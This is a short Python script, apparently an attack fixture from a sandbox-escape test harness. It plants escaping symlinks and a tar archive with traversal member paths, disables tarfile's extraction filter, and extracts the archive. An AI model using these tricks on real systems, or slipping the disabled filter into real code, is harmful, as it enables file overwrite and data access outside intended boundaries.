"""Plant links and an archive that lead out, for the host to read, write and copy through."""

import io
import os
import tarfile

from attack import PARAMETERS

folder = PARAMETERS["folder"]
os.makedirs("bait/inner")
os.symlink(folder, "bait/absolute")
os.symlink("../" * 20 + folder, "bait/relative")
os.symlink("inner/../../../../../../../../.." + folder, "bait/hidden")
os.symlink("/proc/1/root" + folder, "bait/magic")
with tarfile.open("bait/archive.tar", "w") as archive:
    for name in (f"{folder}/planted", "../" * 20 + f"{folder}/planted", "absolute/planted"):
        member = tarfile.TarInfo(name)
        member.size = 7
        archive.addfile(member, io.BytesIO(b"planted"))
tarfile.TarFile.extraction_filter = staticmethod(lambda member, path: member)
with tarfile.open("bait/archive.tar") as archive:  # inside, an extraction that checks nothing reaches the inside only
    os.makedirs("out")
    archive.extractall("/app/out")
print("planted")
